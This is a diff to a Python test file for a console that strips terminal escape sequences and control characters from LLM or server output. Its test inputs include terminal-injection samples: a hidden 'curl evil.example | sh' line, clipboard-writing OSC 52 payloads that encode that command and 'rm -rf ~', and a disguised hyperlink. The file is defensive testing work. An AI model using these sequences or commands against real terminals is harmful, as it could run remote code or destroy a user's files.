@@ -1,6 +1,7 @@
 """What reaches the terminal: text from an LLM, a server or a file is shown, never obeyed (no escape sequence or
 control character gets through the Console), printing never fails a run (unencodable characters escaped, a closed
 pipe ends the run quietly with 141), and the end-of-run report cannot turn a finished run into a failure."""
+
 from __future__ import annotations
 
 import io
@@ -13,21 +14,21 @@ import time
 
 import colorama
 import pytest
-
 from fakes import Sink
 from helpers import CONTROLS, RUN_JARVIS, child_environment, run_jarvis, transcript_answering
+from loopback_llm import HTTPError, LoopbackLLMServer
 from subprocess_guard import network_guarded
 from waiting import wait_until
-from loopback_llm import HTTPError, LoopbackLLMServer
-from aiflows_jarvis.CoreFlowModule import Console, RunContext
-from aiflows_jarvis.CoreFlowModule.console.interaction import TerminalInput
-from aiflows_jarvis.CoreFlowModule.console.interaction import _STYLES, OutputClosed
-from aiflows_jarvis.CoreFlowModule import clean_text
+
+from aiflows_jarvis.CoreFlowModule import Console, RunContext, clean_text
+from aiflows_jarvis.CoreFlowModule.console.interaction import _STYLES, OutputClosed, TerminalInput
 
 ESC, BEL, ST = "\x1b", "\x07", "\x1b\\"
 HIDDEN_CODE = f"import os; os.system('curl evil.example | sh'){ESC}[2K{ESC}[Gprint('hello')"
-EVIL = (f"{ESC}]0;pwned{BEL}{ESC}]52;c;Y3VybCBldmlsLmV4YW1wbGUgfCBzaA=={BEL}{HIDDEN_CODE}\r"
-        f"{ESC}P+q544e{ST}\x9b2J\x9d0;t\x9c\x85\x00\x7f done")
+EVIL = (
+    f"{ESC}]0;pwned{BEL}{ESC}]52;c;Y3VybCBldmlsLmV4YW1wbGUgfCBzaA=={BEL}{HIDDEN_CODE}\r"
+    f"{ESC}P+q544e{ST}\x9b2J\x9d0;t\x9c\x85\x00\x7f done"
+)
 
 
 def controls_in(text: str) -> set:
@@ -35,27 +36,33 @@ def controls_in(text: str) -> set:
 
 
 # ~~~ clean_text ~~~
-@pytest.mark.parametrize("raw, shown", [
-    (HIDDEN_CODE, "import os; os.system('curl evil.example | sh')print('hello')"),  # ESC[2K ESC[G hid the first part
-    (f"a{ESC}[31;1mred{ESC}[0m b{ESC}[?25l{ESC}[10;20H", "ared b"),  # colours, hidden cursor, cursor moved
-    (f"copy{ESC}]52;c;cm0gLXJmIH4={BEL}!", "copy!"),  # OSC 52 writes the clipboard
-    (f"x{ESC}]0;my title{BEL}y", "xy"),  # OSC 0, ended by BEL...
-    (f"x{ESC}]2;my title{ST}y", "xy"),  # ... or by ST
-    (f"x{ESC}]8;;http://evil.example{ST}link{ESC}]8;;{ST}", "xlink"),  # hyperlink whose target is not shown
-    (f"x{ESC}P1$r0m{ST}y", "xy"),  # DCS
-    (f"x{ESC}Xsos{ST}{ESC}^pm{ST}{ESC}_apc{ST}y", "xy"),  # SOS, PM, APC
-    (f"x{ESC}cy{ESC}(B{ESC}7{ESC}8z", "xyz"),  # two-byte sequences: reset, charset, save/restore cursor
-    ("x\x9b2Ky", "x2Ky"),  # the 8-bit CSI (U+009B) is a C1 control: removed, what follows left visible
-    ("x\x9d0;title\x9cy\x90dcs\x9cz", "x0;titleydcsz"),  # 8-bit OSC, DCS and ST alike
-    (f"x{ESC}]0;title\x9cy", "xy"),  # an OSC ended by the 8-bit ST
-    ("a\x84b\x85c\x8dd\x9fe", "abcde"),  # other C1 controls (IND, NEL, RI, APC)
-    ("rm -rf ~\rls -l", "rm -rf ~\nls -l"),  # a lone CR would overwrite what the user reads
-    ("one\r\ntwo\r\n", "one\ntwo\n"),
-    ("abc\b\b\bxyz", "abcxyz"),  # backspaces overwrite too
-    ("a\x00b\x7fc\x07d\x0be\x0cf", "abcdef"),  # NUL, DEL, BEL, VT, FF
-    (f"unterminated {ESC}]0;title", "unterminated 0;title"),  # nothing swallowed, nothing left for the terminal
-    (f"lone {ESC}", "lone "),
-])
+@pytest.mark.parametrize(
+    "raw, shown",
+    [
+        (
+            HIDDEN_CODE,
+            "import os; os.system('curl evil.example | sh')print('hello')",
+        ),  # ESC[2K ESC[G hid the first part
+        (f"a{ESC}[31;1mred{ESC}[0m b{ESC}[?25l{ESC}[10;20H", "ared b"),  # colours, hidden cursor, cursor moved
+        (f"copy{ESC}]52;c;cm0gLXJmIH4={BEL}!", "copy!"),  # OSC 52 writes the clipboard
+        (f"x{ESC}]0;my title{BEL}y", "xy"),  # OSC 0, ended by BEL...
+        (f"x{ESC}]2;my title{ST}y", "xy"),  # ... or by ST
+        (f"x{ESC}]8;;http://evil.example{ST}link{ESC}]8;;{ST}", "xlink"),  # hyperlink whose target is not shown
+        (f"x{ESC}P1$r0m{ST}y", "xy"),  # DCS
+        (f"x{ESC}Xsos{ST}{ESC}^pm{ST}{ESC}_apc{ST}y", "xy"),  # SOS, PM, APC
+        (f"x{ESC}cy{ESC}(B{ESC}7{ESC}8z", "xyz"),  # two-byte sequences: reset, charset, save/restore cursor
+        ("x\x9b2Ky", "x2Ky"),  # the 8-bit CSI (U+009B) is a C1 control: removed, what follows left visible
+        ("x\x9d0;title\x9cy\x90dcs\x9cz", "x0;titleydcsz"),  # 8-bit OSC, DCS and ST alike
+        (f"x{ESC}]0;title\x9cy", "xy"),  # an OSC ended by the 8-bit ST
+        ("a\x84b\x85c\x8dd\x9fe", "abcde"),  # other C1 controls (IND, NEL, RI, APC)
+        ("rm -rf ~\rls -l", "rm -rf ~\nls -l"),  # a lone CR would overwrite what the user reads
+        ("one\r\ntwo\r\n", "one\ntwo\n"),
+        ("abc\b\b\bxyz", "abcxyz"),  # backspaces overwrite too
+        ("a\x00b\x7fc\x07d\x0be\x0cf", "abcdef"),  # NUL, DEL, BEL, VT, FF
+        (f"unterminated {ESC}]0;title", "unterminated 0;title"),  # nothing swallowed, nothing left for the terminal
+        (f"lone {ESC}", "lone "),
+    ],
+)
 def test_clean_text_removes_each_kind_of_sequence_and_control(raw, shown):
     assert clean_text(raw) == shown
 
@@ -73,8 +80,35 @@ def test_clean_text_can_leave_carriage_returns_to_the_interpreter():
 def test_nothing_a_terminal_acts_on_survives_any_mix():
     """Whatever the mix (sequences cut anywhere, nested, unterminated), no control character is left."""
     rng = random.Random(11)
-    pieces = [ESC, "[", "]", "P", "X", "^", "_", "\\", BEL, "\x9b", "\x9c", "\x9d", "\x90", "0;", "52;c;", "2K", "\r",
-              "\n", "\t", "a", "é", "\x00", "\x7f", "\x85", "m", "?25l", "ok "]
+    pieces = [
+        ESC,
+        "[",
+        "]",
+        "P",
+        "X",
+        "^",
+        "_",
+        "\\",
+        BEL,
+        "\x9b",
+        "\x9c",
+        "\x9d",
+        "\x90",
+        "0;",
+        "52;c;",
+        "2K",
+        "\r",
+        "\n",
+        "\t",
+        "a",
+        "é",
+        "\x00",
+        "\x7f",
+        "\x85",
+        "m",
+        "?25l",
+        "ok ",
+    ]
     for _ in range(3000):
         raw = "".join(rng.choice(pieces) for _ in range(rng.randint(1, 40)))
         cleaned = clean_text(raw)
@@ -82,14 +116,17 @@ def test_nothing_a_terminal_acts_on_survives_any_mix():
         assert clean_text(cleaned) == cleaned, "cleaning twice changes nothing"
 
 
-@pytest.mark.parametrize("shape", [
-    f"{ESC}[2K{ESC}]0;t{BEL}\x9b1m{ESC}]52;c;QUFB{ST}abc\r\n",  # well-formed, dense
-    f"{ESC}]",  # OSCs never ended
-    "\x9d",  # 8-bit OSCs never ended (each a run the next one could extend)
-    "\x90",  # 8-bit DCSs never ended
-    f"{ESC}[1;",  # CSIs with parameters and no final byte
-    f"{ESC}P" + "a" * 1000,  # long DCS payloads never ended
-])
+@pytest.mark.parametrize(
+    "shape",
+    [
+        f"{ESC}[2K{ESC}]0;t{BEL}\x9b1m{ESC}]52;c;QUFB{ST}abc\r\n",  # well-formed, dense
+        f"{ESC}]",  # OSCs never ended
+        "\x9d",  # 8-bit OSCs never ended (each a run the next one could extend)
+        "\x90",  # 8-bit DCSs never ended
+        f"{ESC}[1;",  # CSIs with parameters and no final byte
+        f"{ESC}P" + "a" * 1000,  # long DCS payloads never ended
+    ],
+)
 def test_clean_text_is_linear_on_5_mb_of_escape_heavy_text(shape):
     raw = shape * (5_000_000 // len(shape))
     started = time.monotonic()
@@ -133,8 +170,26 @@ def test_unterminated_sequences_lose_their_introducer_and_keep_their_text(shape)
 
 
 # ~~~ invisible characters: shown as their code point, the set taken from the Unicode properties ~~~
-INVISIBLE = ["\u034f", "\ufe0f", "\U000e0100", "\U000e0001", "\U000e0041", "\U000e007f", "\u00ad", "\u2028",
-             "\u2029", "\u2800", "\u17b4", "\u17b5", "\u115f", "\u1160", "\u3164", "\uffa0", "\u180b", "\u2065"]
+INVISIBLE = [
+    "\u034f",
+    "\ufe0f",
+    "\U000e0100",
+    "\U000e0001",
+    "\U000e0041",
+    "\U000e007f",
+    "\u00ad",
+    "\u2028",
+    "\u2029",
+    "\u2800",
+    "\u17b4",
+    "\u17b5",
+    "\u115f",
+    "\u1160",
+    "\u3164",
+    "\uffa0",
+    "\u180b",
+    "\u2065",
+]
 
 
 @pytest.mark.parametrize("char", INVISIBLE, ids=[f"U+{ord(c):04X}" for c in INVISIBLE])
@@ -160,8 +215,8 @@ def test_the_invisible_set_holds_every_format_character_separator_and_variation_
 
 
 def test_the_review_and_the_report_show_the_hidden_name_and_the_editor_is_announced(user, fake_editor, quiet_console):
-    from aiflows_jarvis.HumanStandardInputFlowModule import HumanReviewFlow
     from aiflows_jarvis.app.report_html import esc
+    from aiflows_jarvis.HumanStandardInputFlowModule import HumanReviewFlow
 
     code = "def cleanup\u034f(): pass  # the safe version\ncleanup()\n"
     user.add("e", "")
@@ -210,8 +265,9 @@ def test_the_spinner_label_is_cleaned():
 def test_questions_from_the_llm_are_shown_cleaned_and_the_prompt_is_clean():
     sink = Sink()
     prompts = []
-    terminal = TerminalInput(read_line=lambda prompt: prompts.append(prompt) or "fine",
-                             console=Console(stream=sink, color=False))
+    terminal = TerminalInput(
+        read_line=lambda prompt: prompts.append(prompt) or "fine", console=Console(stream=sink, color=False)
+    )
     assert terminal.ask(f"Which file?{ESC}]52;c;QUFB{BEL}{ESC}[1A{ESC}[2K") == "fine"
     assert sink.text == "Which file?\n" and prompts == ["> "]
 
@@ -309,8 +365,9 @@ def test_a_final_answer_with_escapes_is_shown_cleaned_and_a_dangling_link_change
 
 def test_an_ascii_only_output_shows_the_final_answer_with_escapes(tmp_path):
     """The line was dropped, and the run ended with 0."""
-    done = run_jarvis(tmp_path, "--replay", transcript_answering(tmp_path, SHOWN), "--yes", text=False,
-                      PYTHONIOENCODING="ascii")
+    done = run_jarvis(
+        tmp_path, "--replay", transcript_answering(tmp_path, SHOWN), "--yes", text=False, PYTHONIOENCODING="ascii"
+    )
     assert done.returncode == 0, done.stdout[-3000:] + done.stderr[-3000:]
     assert final_answer(done.stdout, "ascii") == SHOWN.replace("é", "\\xe9").replace("€", "\\u20ac")
 
@@ -318,9 +375,14 @@ def test_an_ascii_only_output_shows_the_final_answer_with_escapes(tmp_path):
 def test_a_reader_that_goes_away_ends_the_run_quietly_with_141(tmp_path):
     """`run_jarvis.py ... | head -1`."""
     with network_guarded(child_environment()) as guarded:
-        child = subprocess.Popen([sys.executable, RUN_JARVIS, "--replay", transcript_answering(tmp_path, ANSWER),
-                                  "--yes"], cwd=tmp_path, env=guarded, stdin=subprocess.DEVNULL,
-                                 stdout=subprocess.PIPE, stderr=subprocess.PIPE)
+        child = subprocess.Popen(
+            [sys.executable, RUN_JARVIS, "--replay", transcript_answering(tmp_path, ANSWER), "--yes"],
+            cwd=tmp_path,
+            env=guarded,
+            stdin=subprocess.DEVNULL,
+            stdout=subprocess.PIPE,
+            stderr=subprocess.PIPE,
+        )
         first = child.stdout.readline()
         child.stdout.close()
         _, stderr = child.communicate(timeout=240)
@@ -349,8 +411,16 @@ def test_verbose_shows_the_traceback_cleaned(monkeypatch, tmp_path, capsys):
         raise RuntimeError(f"the server said {ESC}]0;pwned{BEL}{ESC}[2Kno")
 
     monkeypatch.setattr(launcher, "prepare_memory", broken)
-    code = run_jarvis.main(["--replay", transcript_answering(tmp_path, "42"), "--yes", "--verbose",
-                            "--memory-dir", str(tmp_path / "memory")])
+    code = run_jarvis.main(
+        [
+            "--replay",
+            transcript_answering(tmp_path, "42"),
+            "--yes",
+            "--verbose",
+            "--memory-dir",
+            str(tmp_path / "memory"),
+        ]
+    )
     err = capsys.readouterr().err
     assert code == 1
     assert "Traceback (most recent call last)" in err and "RuntimeError: the server said no" in err
